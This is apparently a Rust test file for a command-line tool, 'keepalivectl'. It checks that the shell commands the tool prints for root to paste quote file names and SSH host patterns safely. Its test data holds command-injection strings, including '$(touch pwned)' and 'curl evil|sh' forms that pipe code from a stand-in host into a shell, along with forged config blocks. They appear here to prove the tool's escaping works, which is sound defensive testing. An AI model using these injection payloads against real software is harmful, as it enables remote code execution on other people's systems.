//! Commands that are printed as advice: root pastes them, so each foreign word in one
//! comes out of the shell as it is, and nothing else happens.

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use nix::unistd::geteuid;
use serde_json::Value;

use keepalivectl::boot;

use super::output::{Played, run};
use crate::command::{binary, program};
use crate::fixture::Tree;
use crate::sandbox::sandboxed;

/// Names in which a shell would see more than a name. No command of theirs is to run.
const NAMES: [&str; 22] = [
    "plain",
    "a b",
    "a;touch pwned;",
    "a;curl evil|sh;",
    "$(touch pwned)",
    "`touch pwned`",
    "$HOME ${HOME}",
    "it's; touch pwned",
    "\"quoted\"",
    "*",
    "~",
    "#comment",
    "!! !touch",
    "-rf",
    "=ls",
    "back\\slash\\",
    "a&b|c>pwned<d(e)",
    "a\ntouch pwned\n",
    "\x1b[2J'\x07\t\r\x7f!",
    "\u{202e}rtl\u{9b}1",
    "\u{200b}",
    "é 漢字",
];

/// All that the commands of a line are called with, by a real shell, in which each of
/// them is a function.
#[track_caller]
fn called(line: &str) -> Vec<Vec<String>> {
    let place = tempfile::tempdir().unwrap();
    let script = format!(
        "sudo() {{ printf '%s\\0' sudo \"$@\" END; }}\n\
         keepalivectl() {{ sudo keepalivectl \"$@\"; }}\n\
         chmod() {{ sudo chmod \"$@\"; }}\nssh() {{ sudo ssh \"$@\"; }}\n\
         fuser() {{ sudo fuser \"$@\"; }}\n{line}\n"
    );
    let mut bash = Command::new("bash");
    bash.args(["-c", &script]).current_dir(place.path());
    let output = bash.output().unwrap();
    assert!(
        output.status.success() && output.stderr.is_empty(),
        "{line}: {output:?}"
    );
    let left: Vec<_> = fs::read_dir(place.path()).unwrap().collect();
    assert!(left.is_empty(), "{line} made {left:?}");
    let text = String::from_utf8(output.stdout).unwrap();
    let commands = text.split_terminator("\0END\0");
    commands
        .map(|words| words.split('\0').map(str::to_owned).collect())
        .collect()
}

/// What stands between two texts of a complaint, or up to the end of its line.
#[track_caller]
fn between(said: &Output, before: &str, after: &str) -> String {
    let stderr = String::from_utf8(said.stderr.clone()).unwrap();
    let (_, rest) = stderr
        .split_once(before)
        .unwrap_or_else(|| panic!("no {before}: {stderr}"));
    rest.split(after).next().unwrap().to_owned()
}

fn at_root(root: &Path, line: &str) -> Output {
    let mut command = program();
    command.arg("--root").arg(root).args(line.split(' '));
    run(command)
}

sandboxed! {
    fn a_program_is_installed_where_it_was_said() {
        for name in NAMES {
            let tree = Tree::new();
            let root = tree.path(name);
            tree.write(&format!("{name}/usr/lib/systemd/systemd"), "");
            let program = root.join("usr/local/bin/keepalivectl");
            let said = at_root(&root, "enable ssh");
            let commands = called(&between(&said, "install it with: ", "\n"));
            let words: Vec<&str> = commands[0].iter().map(String::as_str).collect();
            let options = ["-D", "-o", "root", "-g", "root", "-m", "0755"];
            assert_eq!(words[..2], ["sudo", "install"]);
            assert_eq!(words[2..9], options);
            assert_eq!(words[9..], [&binary(), program.to_str().unwrap()], "{name:?}");
            // What is there and wrong is put right.
            tree.program(&format!("{name}/usr/local/bin/keepalivectl"));
            let folder = format!("{name}/usr/local");
            tree.set_mode(&folder, 0o777);
            let said = at_root(&root, "enable ssh");
            let folder = tree.path(&folder);
            let folder = folder.to_str().unwrap();
            assert_eq!(
                called(&between(&said, "put it right with: ", "\n")),
                [
                    vec!["sudo", "chown", "-h", "root:root", folder],
                    vec!["sudo", "chmod", "go-w,a+rx", folder],
                ]
            );
        }
    }
}

#[test]
fn who_holds_the_lock_is_asked_of_the_right_file() {
    for name in NAMES {
        let lock = Path::new("/image").join(name);
        let file = lock.to_str().unwrap().to_owned();
        let waited = Duration::from_secs(10);
        let text = boot::Error::Busy { lock, waited }.to_string();
        let (_, command) = text.split_once("; `").unwrap();
        let command = command.strip_suffix("` names it").unwrap();
        assert_eq!(called(command), [["sudo", "fuser", file.as_str()]]);
    }
}

/// Somebody who is not root.
fn unprivileged(command: &mut Command) {
    if geteuid().is_root() {
        command.uid(65_534).gid(65_534);
    }
}

#[test]
fn what_was_typed_is_what_root_is_to_type() {
    let place = tempfile::tempdir().unwrap();
    fs::set_permissions(place.path(), fs::Permissions::from_mode(0o755)).unwrap();
    for name in NAMES {
        let file = place.path().join(name);
        symlink("/proc/self/ns/net", &file).unwrap();
        let file = file.to_str().unwrap();
        let mut command = program();
        command.args(["apply", "ssh", "--netns", file]);
        unprivileged(&mut command);
        let line = between(&run(command), "\n  run it as root: ", "\n");
        let typed = ["sudo", "keepalivectl", "apply", "ssh", "--netns", file];
        assert_eq!(called(&line), [typed]);
    }
}

#[test]
fn the_right_file_becomes_readable_again() {
    let place = tempfile::tempdir().unwrap();
    fs::set_permissions(place.path(), fs::Permissions::from_mode(0o755)).unwrap();
    for name in NAMES {
        let folder = place.path().join(name);
        let file = folder.join("sessions/x");
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(&file, "").unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o0)).unwrap();
        if geteuid().is_root() {
            chown(&file, Some(65_534), Some(65_534)).unwrap();
        }
        let mut command = program();
        command
            .env("PUTTYDIR", &folder)
            .args(["ssh", "show", "--putty", "x"]);
        unprivileged(&mut command);
        let line = between(&run(command), "\n  ", "\n");
        let file = file.to_str().unwrap();
        assert_eq!(called(&line), [["sudo", "chmod", "u+rw", file]]);
    }
}

/// The value of a field of a report.
fn field(said: &Output, name: &str) -> String {
    let report: Value =
        serde_json::from_slice(&said.stdout).unwrap_or_else(|e| panic!("{e}: {said:?}"));
    report[name].as_str().unwrap().to_owned()
}

#[test]
fn a_session_of_putty_is_taken_out_by_the_printed_command() {
    let home = tempfile::tempdir().unwrap();
    let sessions = home.path().join(".putty/sessions");
    let bin = home.path().join("bin");
    fs::create_dir_all(&sessions).unwrap();
    fs::create_dir(&bin).unwrap();
    symlink(binary(), bin.join("keepalivectl")).unwrap();
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"+-.@_".contains(&byte);
    for name in NAMES {
        let escape = |byte: u8| match plain(byte) {
            true => char::from(byte).to_string(),
            false => format!("%{byte:02X}"),
        };
        let file = sessions.join(name.bytes().map(escape).collect::<String>());
        fs::write(&file, "PingIntervalSecs=5\n").unwrap();
        let mut set = program();
        set.env("HOME", home.path());
        set.args([
            "--json",
            "ssh",
            "set",
            "putty",
            "--interval",
            "60",
            "--",
            name,
        ]);
        let undo = field(&run(set), "undo");
        // As it is pasted.
        let mut bash = Command::new("bash");
        bash.args(["-c", &undo]).env_clear();
        bash.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
        bash.env("HOME", home.path());
        let said = run(bash);
        assert!(said.status.success(), "{undo}: {said:?}");
        assert_eq!(
            fs::read_to_string(&file).unwrap(),
            "PingIntervalSecs=5\n",
            "{undo}"
        );
    }
}

sandboxed! {
    fn what_stands_in_a_users_file_becomes_no_command() {
        let played = Played::new();
        played.program(
            "ssh",
            "case \"$*\" in *ControlPath=*) echo \"controlpath $HOME/\"; exit 0;; esac\n\
             printf 'tcpkeepalive yes\\nserveraliveinterval 7\\nserveralivecountmax 3\\n'\n",
        );
        // The patterns of hosts that a block can be for.
        for hosts in ["db*", "-x*", "* !*.example.org ?"] {
            let mut set = played.command("ssh set client --interval 60 --count 3 --json --dry-run");
            set.arg(format!("--host={hosts}"));
            let undo = called(&field(&run(set), "undo")).remove(0);
            assert_eq!(undo[..5], ["sudo", "keepalivectl", "ssh", "unset", "client"]);
            assert_eq!(undo[5..].join("="), format!("--host={hosts}"));
        }
        // A block by a name that nobody has given it.
        let block = |name: &str| {
            format!(
                "# begin of what `keepalivectl {name}` wrote\nHost x\n\
                 # end of what `keepalivectl {name}` wrote\n"
            )
        };
        let forged = [
            "ssh set client; curl evil|sh",
            "ssh set client --host 'x'; curl evil|sh; ''",
            "ssh set client --host '$(curl evil|sh)'",
            "x; curl evil|sh;",
        ];
        let ours = "ssh set client --host 'db*'";
        let text: String = forged.into_iter().chain([ours]).map(block).collect();
        fs::write(played.home.path().join(".ssh/config"), text).unwrap();
        let said = run(played.command("ssh unset client --json"));
        let report: Value = serde_json::from_slice(&said.stdout).unwrap();
        let left = report["left"].as_array().unwrap();
        assert_eq!(left, &["keepalivectl ssh unset client --host 'db*'"]);
    }
}

sandboxed! {
    fn what_was_asked_of_ssh_can_be_asked_again() {
        let played = Played::new();
        played.program("ssh", "echo no >&2; exit 255\n");
        for name in NAMES {
            let file = played.home.path().join(name);
            fs::write(&file, "").unwrap();
            let mut show = played.command("ssh show db1 -F");
            show.arg(&file);
            let said = run(show);
            let stderr = String::from_utf8(said.stderr).unwrap();
            let (_, rest) = stderr.split_once(": `").unwrap();
            let (command, _) = rest.rsplit_once("` refuses").unwrap();
            let words = called(command).remove(0);
            let file = file.to_str().unwrap();
            assert!(words.iter().any(|word| word == file), "{words:?}");
        }
    }
}
